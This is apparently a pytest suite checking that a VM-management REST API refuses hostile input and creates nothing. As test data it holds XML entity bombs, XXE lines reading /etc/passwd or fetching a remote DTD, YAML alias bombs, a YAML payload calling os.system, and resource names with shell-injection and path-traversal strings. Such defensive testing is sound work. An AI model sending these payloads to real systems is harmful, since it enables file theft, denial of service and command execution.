"""Hostile input through REST, the one way in that pages have, too: bombs, documents that lead elsewhere, names for a shell.

What a single parser makes of such things is tested beside it; here it is what comes back, and that nothing was made.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from core.units import GIB, MIB
from operations.models import Operation
from storage.models import Volume
from tests.transfers import files
from vms.models import VM

if TYPE_CHECKING:
    from tests.conftest import Api
    from tests.vms.conftest import Farm

pytestmark = pytest.mark.django_db(transaction=True)

BOMB = "<!ENTITY a0 'x'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
DEFINITIONS = {
    "a billion laughs": f"<!DOCTYPE domain [{BOMB}]><domain type='fake'><name>&a11;</name></domain>",
    "quadratic": f"<!DOCTYPE d [<!ENTITY a '{'x' * 50_000}'>]><domain><name>a</name><title>{'&a;' * 50_000}</title></domain>",
    "a file of the server": "<!DOCTYPE d [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><domain><name>&a;</name></domain>",
    "another server": "<!DOCTYPE d SYSTEM 'http://192.0.2.1/x.dtd'><domain><name>a</name></domain>",
    "a parameter entity": "<!DOCTYPE d [<!ENTITY % a SYSTEM 'http://192.0.2.1/x'> %a;]><domain><name>a</name></domain>",
    "deep": "<domain><name>a</name>" + "<a>" * 100_000 + "</a>" * 100_000 + "</domain>",
    "a path for a name": "<domain type='fake'><name>../../etc/cron.d/a</name></domain>",
}
USER_DATA = {
    "no YAML": "#cloud-config\na: [\n",
    "no mapping": "#cloud-config\n- a\n",
    "no form at all": "hello",
    "aliases that grow": "#cloud-config\na0: &a0 [x,x]\n"
    + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 4)}]\n" for n in range(1, 16)),
    "an alias within itself": "#cloud-config\na: &a [*a]\n",
    "an object of Python": "#cloud-config\na: !!python/object/apply:os.system ['touch /tmp/x']\n",
    "deep": "#cloud-config\na: " + "[" * 5000 + "]" * 5000,
    "NUL": "#cloud-config\na: \0\n",
}  # fmt: skip
NAMES = (
    "../../etc/passwd", "a/b", "a;reboot", "$(reboot)", "`id`", "a\nb", "a\0b", "-rf", "..", "", "<script>", "a'\"b", "\u202egnp",
    "a" * 300,
)  # fmt: skip


def refused(answer: Any, pointer: str) -> None:
    assert answer.status_code == 422, (answer.status_code, answer.content[:300])
    assert [one["pointer"] for one in answer.json()["errors"] if one["pointer"].startswith(pointer)], answer.json()


def nothing_made(farm: Farm) -> None:
    farm.workers()
    assert (farm.names(), farm.volumes()) == (set(), {"debian.qcow2"})
    assert not Operation.objects.exclude(kind__startswith="vm.check").exists()


@pytest.mark.parametrize("what", DEFINITIONS)
def test_a_definition_that_attacks_its_reader_then_refused_and_nothing_made(farm: Farm, api: Api, what: str) -> None:
    answer = api.post("/vms", {"xml": DEFINITIONS[what], "hypervisor": str(farm.hypervisor.pk)})
    refused(answer, "/xml")
    assert "root:" not in answer.content.decode()
    nothing_made(farm)


@pytest.mark.parametrize("what", USER_DATA)
def test_user_data_that_is_none_then_refused_at_every_door(farm: Farm, api: Api, what: str) -> None:
    cloud_init = {"user_data": USER_DATA[what]}
    for query in ("", "?dry_run=true"):
        answer = api.post(f"/vms{query}", {"name": "a", "disks": [{"image": "debian.qcow2"}], "cloud_init": cloud_init})
        refused(answer, "/cloud_init/user_data")
    answer = api.post("/cloud-init/validate", cloud_init)
    if "\0" in USER_DATA[what]:
        refused(answer, "/user_data")
    else:
        assert (answer.json()["ok"], answer.json()["errors"][0]["path"]) == (False, "/user_data")
    nothing_made(farm)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_means_something_elsewhere_then_refused_for_whatever_it_is(farm: Farm, api: Api, name: str) -> None:
    host = str(farm.hypervisor.host_id)
    refused(api.post("/vms", {"name": name, "disks": [{"image": "debian.qcow2"}]}), "/name")
    refused(api.post("/vms", {"name": "a", "disks": [{"image": "debian.qcow2", "pool": name}]}), "/disks/0/pool")
    refused(api.post("/vms", {"name": "a", "disks": [{"image": name}]}), "/disks/0")
    refused(api.post("/vms", {"name": "a", "disks": [], "boot": {"kernel": name}}), "/boot/kernel")
    refused(api.post("/storage-pools", {"host": host, "name": name, "type": "dir", "target": "/srv/x"}), "/name")
    refused(api.post("/volumes", {"pool": "default", "name": name, "capacity_bytes": MIB}), "/name")
    refused(api.post("/networks", {"host": host, "name": name, "mode": "isolated"}), "/name")
    nothing_made(farm)


def test_a_header_that_claims_a_hundred_gib_in_a_small_pool_then_nothing_is_left(farm: Farm, api: Api) -> None:
    farm.world.storage.add_pool("small", capacity_bytes=100 * MIB)
    farm.world.storage.add_volume(
        "small", "liar.qcow2", content=files.qcow2_header(size=100 * GIB), capacity_bytes=100 * GIB, format_="qcow2"
    )
    farm.see()
    spec = {"name": "a", "disks": [{"image": "liar.qcow2", "pool": "small", "clone": "full", "format": "raw"}]}
    refused(api.post("/vms", spec), "/disks/0/pool")
    made = {"pool": "small", "name": "big", "clone_of": "liar.qcow2", "allocation_bytes": 100 * GIB}
    answer = api.post("/volumes", made, Prefer="wait=20")
    assert answer.status_code == 422 or answer.json()["error"]["code"] == "no_space", answer.json()
    farm.workers()
    assert farm.volumes("small") == {"liar.qcow2"}
    assert not VM.objects.exists()
    assert not Volume.objects.filter(name="big").exists()
